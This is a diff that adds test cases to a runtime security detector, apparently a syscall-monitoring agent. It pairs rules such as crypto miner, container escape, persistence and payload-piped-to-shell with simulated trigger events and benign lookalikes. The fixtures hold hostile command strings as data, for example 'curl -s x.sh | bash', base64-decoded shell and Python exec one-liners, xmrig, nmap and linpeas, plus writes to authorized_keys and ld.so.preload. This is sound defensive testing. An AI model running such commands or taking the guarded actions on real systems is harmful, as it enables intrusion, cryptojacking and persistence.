@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
-from tracehound.agent.event import Event
+from tracehound.agent.event import Event, ProcInfo
 from tracehound.filters.chain import StageChain
 
 from .conftest import connect_ev, ev, exec_ev, make_chain, open_ev, proc, rules_hit
@@ -12,6 +14,11 @@ from .conftest import connect_ev, ev, exec_ev, make_chain, open_ev, proc, rules_
 NODE = proc("node server.js", exe="/usr/local/bin/node")
 PY = proc("python3 app.py", exe="/usr/bin/python3.11", name="python3")
 WORKER = proc("python3 app.py", exe="/usr/bin/python3.11", name="python3", uid=1000, gid=1000)
+
+
+def _tagged(e: Event, *tags: str) -> Event:
+    e.tags.update(tags)
+    return e
 
 
 def _dropped_then_run(c: StageChain) -> list[str]:
@@ -65,6 +72,101 @@ TRIGGERS: dict[str, list[Event]] = {
         ev("setuid", WORKER, evt__arg__uid=0),
         ev("setresgid", WORKER, evt__arg__rgid=0, evt__arg__egid=0, evt__arg__sgid=0),
     ],
+    "Attempt to silence or patch the agent": [
+        _tagged(ev("kill", PY, evt__arg__pid=1, evt__arg__sig=9, evt__res=-1), "refused"),
+        _tagged(ev("pidfd_send_signal", PY, evt__arg__fd=3, evt__arg__sig=19), "refused"),
+        _tagged(ev("process_vm_writev", PY, evt__arg__pid=1), "refused"),
+    ],
+    "Seccomp listener requested by the application": [
+        ev("seccomp", PY, evt__arg__op="SECCOMP_SET_MODE_FILTER", evt__arg__flags="NEW_LISTENER")
+    ],
+    "io_uring ring created": [ev("io_uring_setup", PY, evt__arg__entries=8, evt__res=3)],
+    "Process made itself unreadable": [
+        ev("prctl", PY, evt__arg__option="PR_SET_DUMPABLE", evt__arg__value=0)
+    ],
+    "Syscall argument unreadable by the agent": [
+        _tagged(open_ev(PY, "<unreadable>"), "unreadable"),
+        _tagged(exec_ev(proc("x", parent=PY)), "unreadable"),
+    ],
+    "Clone hidden from the tracer": [
+        _tagged(ev("clone", PY, evt__arg__flags="CLONE_UNTRACED|CLONE_VM"), "untraced_clone"),
+    ],
+    "Process memory opened for reading": [
+        open_ev(PY, "/proc/1/mem", "O_RDONLY|O_CLOEXEC"),
+        open_ev(PY, "/proc/42/mem"),
+    ],
+}
+
+_SH = proc("sh -c x", exe="/bin/sh", parent=NODE)
+
+
+def _outside(p: ProcInfo) -> Event:
+    """An exec of a process found outside the application's tree (agent/outside.py)."""
+    e = exec_ev(p)
+    e.tags.add("outside_tree")
+    return e
+
+
+# The GuardDuty-class rules (acted out for real in test_guardduty_e2e.py).
+TRIGGERS |= {
+    "Crypto miner launched": [
+        exec_ev(proc("xmrig -o pool:443", exe="/opt/x/xmrig", parent=PY)),
+        exec_ev(proc("svc -o stratum+tcp://pool:3333", exe="/opt/x/svc", parent=PY)),
+        exec_ev(proc("svc --donate-level 1", exe="/opt/x/svc", parent=PY)),
+    ],
+    "Connection to a mining pool port": [connect_ev(PY, "203.0.113.7", 14444)],
+    "Connection to a Tor port": [
+        connect_ev(PY, "203.0.113.7", 9001),
+        exec_ev(proc("tor -f torrc", parent=PY)),
+    ],
+    "Offensive tool launched": [
+        exec_ev(proc("nmap -sS 10.0.0.0/24", parent=PY)),
+        exec_ev(proc("sh linpeas.sh", exe="/bin/sh", name="sh", parent=PY)),
+    ],
+    "Decoded or downloaded payload run by a shell": [
+        exec_ev(proc("sh", exe="/bin/sh", parent=proc(("sh", "-c", "echo eA== | base64 -d | sh")))),
+        exec_ev(proc("bash", exe="/bin/bash", parent=proc(("sh", "-c", "curl -s x.sh | bash")))),
+        exec_ev(proc(("python3", "-c", "import base64;exec(base64.b64decode('eA=='))"))),
+    ],
+    "Container runtime socket contacted": [
+        ev("connect", PY, fd__name="/var/run/docker.sock", fd__type="unix"),
+        ev("connect", PY, fd__name="/run/containerd/containerd.sock", fd__type="unix"),
+    ],
+    "Running executable opened for writing": [
+        open_ev(PY, "/usr/bin/python3.11", "O_WRONLY"),
+        open_ev(PY, "/proc/self/exe", "O_RDWR"),
+    ],
+    "Cgroup release_agent written": [
+        open_ev(PY, "/sys/fs/cgroup/memory/release_agent", "O_WRONLY"),
+    ],
+    "Filesystem mounted in container": [
+        ev("mount", PY, evt__arg__source="/dev/xvda1", fd__name="/mnt", evt__arg__fstype="ext4")
+    ],
+    "Userfaultfd created": [ev("userfaultfd", PY)],
+    "Process memory opened for writing": [open_ev(PY, "/proc/42/mem", "O_RDWR")],
+    "Ptrace anti-debugging": [ev("ptrace", PY, evt__arg__request="PTRACE_TRACEME")],
+    "Kernel module load attempt": [ev("finit_module", PY), ev("init_module", PY)],
+    "SSH authorized_keys modified": [
+        open_ev(PY, "/root/.ssh/authorized_keys", "O_WRONLY|O_APPEND|O_CREAT"),
+        ev("rename", PY, fd__name="/home/app/.ssh/authorized_keys"),
+    ],
+    "Startup or scheduler file written": [
+        open_ev(PY, "/etc/ld.so.preload", "O_WRONLY|O_CREAT"),
+        open_ev(PY, "/etc/cron.d/job", "O_WRONLY|O_CREAT"),
+        open_ev(PY, "/home/app/.bashrc", "O_WRONLY|O_APPEND"),
+    ],
+    "Persistence tool launched": [exec_ev(proc("crontab -", parent=PY))],
+    "Discovery command from a server's shell": [
+        exec_ev(proc("id", parent=_SH)),
+        exec_ev(proc("uname -a", parent=NODE)),
+    ],
+    "Shell run in the container from outside the application": [
+        _outside(proc("bash", exe="/bin/bash", parent=None)),
+        _outside(proc("id", parent=proc("bash", exe="/bin/bash"))),
+    ],
+    "Program run in the container from outside the application": [
+        _outside(proc("python3 x.py", parent=None)),
+    ],
 }
 
 # (rule, benign events that must not trigger it)
@@ -116,10 +218,62 @@ LOOKALIKES: dict[str, list[Event]] = {
         open_ev(PY, "/var/log/app.log", "O_WRONLY|O_APPEND|O_CREAT"),
         open_ev(PY, "/tmp/x.log", "O_WRONLY|O_TRUNC"),
     ],
+    "Crypto miner launched": [exec_ev(proc("minio server /data", parent=PY))],
+    "Connection to a mining pool port": [connect_ev(PY, "10.0.0.5", 5432)],
+    "Connection to a Tor port": [connect_ev(PY, "10.0.0.5", 9000)],
+    "Offensive tool launched": [exec_ev(proc("curl -s http://x", parent=PY))],
+    "Decoded or downloaded payload run by a shell": [
+        exec_ev(proc("sh", exe="/bin/sh", parent=proc(("sh", "-c", "base64 -d f > out")))),
+        exec_ev(proc("sh", exe="/bin/sh", parent=proc(("sh", "-c", "curl -o f x; sh f")))),
+    ],
+    "Container runtime socket contacted": [
+        ev("connect", PY, fd__name="/run/app/app.sock", fd__type="unix"),
+    ],
+    "Running executable opened for writing": [
+        open_ev(PY, "/usr/bin/python3.11", "O_RDONLY"),
+        open_ev(PY, "/proc/self/exe", "O_RDONLY"),
+    ],
+    "Cgroup release_agent written": [
+        open_ev(PY, "/sys/fs/cgroup/memory/release_agent", "O_RDONLY"),
+    ],
+    "Process memory opened for writing": [open_ev(PY, "/proc/42/mem", "O_RDONLY")],
+    "Ptrace anti-debugging": [ev("ptrace", PY, evt__arg__request="PTRACE_PEEKDATA")],
+    "SSH authorized_keys modified": [open_ev(PY, "/root/.ssh/authorized_keys", "O_RDONLY")],
+    "Startup or scheduler file written": [
+        open_ev(PY, "/etc/profile", "O_RDONLY"),
+        open_ev(PY, "/app/bashrc.txt", "O_WRONLY|O_CREAT"),
+    ],
+    "Persistence tool launched": [exec_ev(proc("cron-parser x", parent=PY))],
+    "Shell run in the container from outside the application": [
+        exec_ev(proc("bash", exe="/bin/bash", parent=None)),  # not tagged: the app's own
+    ],
+    "Program run in the container from outside the application": [
+        exec_ev(proc("python3 x.py", parent=None)),
+    ],
+    "Discovery command from a server's shell": [
+        exec_ev(proc("id", parent=proc("sh -c x", exe="/bin/sh"))),
+        exec_ev(proc("ps -e", parent=PY)),
+    ],
     "Setuid or setgid to root by non-root": [
         ev("setuid", PY, evt__arg__uid=0),  # already root
         ev("setuid", PY, evt__arg__uid=1000),  # root dropping privileges
         ev("setgid", WORKER, evt__arg__gid=1000),
+    ],
+    "Attempt to silence or patch the agent": [
+        ev("kill", PY, evt__arg__pid=42, evt__arg__sig=15),  # a signal to another process
+    ],
+    "Seccomp listener requested by the application": [
+        ev("seccomp", PY, evt__arg__op="SECCOMP_SET_MODE_FILTER", evt__arg__flags="TSYNC")
+    ],
+    "Process made itself unreadable": [
+        ev("prctl", PY, evt__arg__option="PR_SET_DUMPABLE", evt__arg__value=1)
+    ],
+    "Syscall argument unreadable by the agent": [open_ev(PY, "/etc/hosts")],
+    "Clone hidden from the tracer": [ev("clone", PY, evt__arg__flags="CLONE_VM|CLONE_THREAD")],
+    "Process memory opened for reading": [
+        open_ev(PY, "/proc/self/mem"),
+        open_ev(PY, "/proc/42/maps"),
+        open_ev(PY, "/proc/42/mem", "O_RDWR"),  # "Process memory opened for writing"
     ],
 }
 
@@ -150,7 +304,20 @@ def test_every_default_rule_has_a_trigger_test() -> None:
     assert c.rules is not None
     names = {r.name for r in c.rules.rules}
     assert len(names) >= 15
-    assert names - {"Drop and execute new binary"} == set(TRIGGERS)
+    assert names - {
+        "Drop and execute new binary",
+        "Library loaded from a file written after start",
+    } == set(TRIGGERS)
+
+
+def test_library_written_then_loaded() -> None:
+    c = make_chain()
+    rule = "Library loaded from a file written after start"
+    assert rule not in rules_hit(c, open_ev(PY, "/app/lib/libx.so", "O_RDONLY|O_CLOEXEC"))
+    rules_hit(c, open_ev(PY, "/app/lib/libx.so", "O_WRONLY|O_CREAT|O_TRUNC"))
+    assert rule in rules_hit(c, open_ev(PY, "/app/lib/libx.so", "O_RDONLY|O_CLOEXEC"))
+    rules_hit(c, open_ev(PY, "/app/data.txt", "O_WRONLY|O_CREAT"))
+    assert rule not in rules_hit(c, open_ev(PY, "/app/data.txt", "O_RDONLY"))
 
 
 def test_alert_carries_output_priority_tags_and_sensitive_tag() -> None:
@@ -162,3 +329,23 @@ def test_alert_carries_output_priority_tags_and_sensitive_tag() -> None:
     assert "T1552" in a.tags
     assert "sensitive_path" in a.event.tags
     assert a.uuid
+
+
+def test_a_rule_that_raises_on_one_event_costs_no_other_alert(tmp_path: Path) -> None:
+    """`contains` on a field that is a number for one syscall (mount's evt.arg.flags):
+    before, the TypeError failed the whole batch's chain and every alert in it was lost."""
+    (tmp_path / "r.yaml").write_text(
+        "- rule: flags text\n  desc: d\n  condition: evt.arg.flags contains O_TRUNC\n"
+        "  output: trunc %fd.name\n  priority: WARNING\n"
+    )
+    c = make_chain(tmp_path, rules={"files": ["builtin:default_rules.yaml", "r.yaml"]})
+    batch = [
+        ev("mount", PY, evt__arg__flags=4096, fd__name="/mnt"),
+        open_ev(proc("cat /etc/shadow"), "/etc/shadow"),
+        open_ev(PY, "/var/log/auth.log", "O_WRONLY|O_TRUNC"),
+    ]
+    _, alerts = c.process(batch)
+    rules = [a.rule for a in alerts]
+    assert "Read sensitive file by unexpected program" in rules, rules
+    assert "flags text" in rules and "Clear log activities" in rules, rules
+    assert c.rule_errors >= 1
